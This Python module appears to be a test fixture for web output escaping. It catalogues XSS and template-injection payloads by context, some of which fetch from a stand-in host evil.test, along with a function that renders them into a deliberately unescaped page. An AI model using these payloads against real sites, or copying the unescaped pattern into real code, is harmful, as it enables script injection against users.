"""What people write into fields who hope that a page runs it. Each calls `P()`, asks a foreign host, draws an outline, or counts to 49.

`kind` is where a page that escapes nothing would have to put it for it to work: `careless` writes that page, and the trap catches each.
"""

import html
from collections.abc import Iterable, Iterator
from typing import NamedTuple
from urllib.parse import unquote

from jinja2 import Template


class Payload(NamedTuple):
    kind: str
    text: str


_TEXTS = {
    "html": [
        "<script>P()</script>", "<ScRiPt>P()</sCrIpT>", "<script/x>P()</script>", "<script src=//evil.test/1></script>",
        "</title><script>P()</script>", "</textarea><script>P()</script>", "--><script>P()</script>", "]]><script>P()</script>",
        "<img src=x onerror=P()>", '<img src=x onerror="P()"//', '<img/src="x"/onerror=P()>', "<IMG SRC=x ONERROR=P()>",
        "<svg onload=P()>", "<svg/onload=P()//", "<svg><script>P()</script></svg>", "<svg><animate onbegin=P() attributeName=x dur=1s>",
        "<svg><set onbegin=P() attributeName=x>", "<svg><image href=//evil.test/2></svg>", '<svg><a href="javascript:P()"><text>x',
        "<body onload=P()>", "<iframe src=javascript:parent.P()></iframe>", "<iframe srcdoc='<script>parent.P()</script>'></iframe>",
        "<iframe onload=P()></iframe>", "<video><source onerror=P()></video>", "<audio src=x onerror=P()></audio>",
        "<details open ontoggle=P()>x</details>", "<input autofocus onfocus=P()>", "<select autofocus onfocus=P()>",
        "<marquee onstart=P()>x</marquee>", "<object data=//evil.test/3></object>", "<embed src=//evil.test/4>",
        "<link rel=stylesheet href=//evil.test/5>", "<meta http-equiv=refresh content='0;url=//evil.test/6'>", "<base href=//evil.test/>",
        "<form action=//evil.test/7><button>x</button></form>", "<button formaction=//evil.test/8>x</button>",
        "<math><mtext><img src=x onerror=P()></mtext></math>", '<a href="javascript:P()">x</a>', '<a href="&#106;avascript:P()">x</a>',
        '<p title="</p><img src=x onerror=P()>"><img src=x onerror=P()>', "<style>body{outline:7px solid red}</style>",
        "<style>@import'//evil.test/9'</style>", '<p style="background:url(//evil.test/10)">x', "<img src=//evil.test/11>",
        "<img srcset='//evil.test/12 1x'>", "<x contenteditable onblur=P()>x</x>", "<a ping=//evil.test/13 href=/>x</a>",
    ],
    "twice": ["&lt;img src=x onerror=P()&gt;", "&#60;img src=x onerror=P()&#62;", "&#x3c;svg onload=P()&#x3e;"],
    "percent": ["%3Cimg src=x onerror=P()%3E", "%3csvg%20onload=P()%3e"],
    "attribute": [
        '" onfocus=P() autofocus x="', '"><script>P()</script>', '"><svg onload=P()>', '" style="outline:7px solid red" x="',
        '" onmouseover=P() x="',
    ],
    "single": ["' onfocus=P() autofocus x='", "'><img src=x onerror=P()>"],
    "unquoted": ["x onmouseover=P()", "x onerror=P() src=x"],
    "script": ["</script><script>P()</script>", "</script><img src=x onerror=P()>", '";P();//', '"-P()-"'],
    "style": [
        "red}body{outline:7px solid red", "red;}body{background:url(//evil.test/14)", "</style><script>P()</script>",
        "red}@import'//evil.test/15';body{background:url(//evil.test/16)", "url(//evil.test/17)",
    ],
    "url": [
        "javascript:P()", "JaVaScRiPt:P()", "javascript://x%0aP()", "javascript&colon;P()", "data:text/html,<script>P()</script>",
        "vbscript:P()", "//evil.test/18",
    ],
    "markdown": [
        "[x](javascript:P())", "[x](data:text/html,<script>P()</script>)", '[x](https://a" onmouseover="P())', "[x](//evil.test/19)",
        "[<img src=x onerror=P()>](https://a)", "# <svg onload=P()>", "**<img src=x onerror=P()>**",
    ],
    "template": ["tpl{{7*7}}", "tpl{%print(7*7)%}", "tpl{{7*'7'}}", "tpl{{[].__class__.__name__}}", "tpl{%for i in (1,2)%}z{%endfor%}"],
    "format": ["tpl{0.__class__.__name__}"],
}  # fmt: skip
PAYLOADS = [Payload(kind, text) for kind, texts in _TEXTS.items() for text in texts]
COUNTED = r"tpl(49|7777777|list|zz|str\b)"


def batches(longest: int, *, payloads: Iterable[Payload] = PAYLOADS, between: str = " ") -> Iterator[str]:
    """All of them that a field of so many characters can hold, as many at once as fit."""
    batch = ""
    for _, text in payloads:
        if len(text) > longest:
            continue
        if batch and len(batch) + len(between) + len(text) > longest:
            yield batch
            batch = ""
        batch = f"{batch}{between}{text}" if batch else text
    if batch:
        yield batch


def careless(payload: Payload) -> str:
    """The page of somebody who escapes nothing, and has put it just where it works."""
    kind, text = payload
    match kind:
        case "attribute":
            body = f'<input value="{text}">'
        case "single":
            body = f"<input value='{text}'>"
        case "unquoted":
            body = f"<img value={text}>"
        case "script":
            body = f'<script>var words = "{text}";</script>'
        case "style":
            body = f"<style>body{{background:{text}}}</style>"
        case "url":
            body = f'<a href="{text}">x</a>'
        case "markdown":
            label, _, place = text.removeprefix("[").removesuffix(")").partition("](")
            body = f'<a href="{place}">{label}</a>'
        case "template":
            body = Template(text, autoescape=False).render()
        case "format":
            body = text.format("")
        case "twice":
            body = html.unescape(text)
        case "percent":
            body = unquote(text)
        case _:
            body = text
    return f"<!doctype html><title>careless</title><body>{body}</body>"
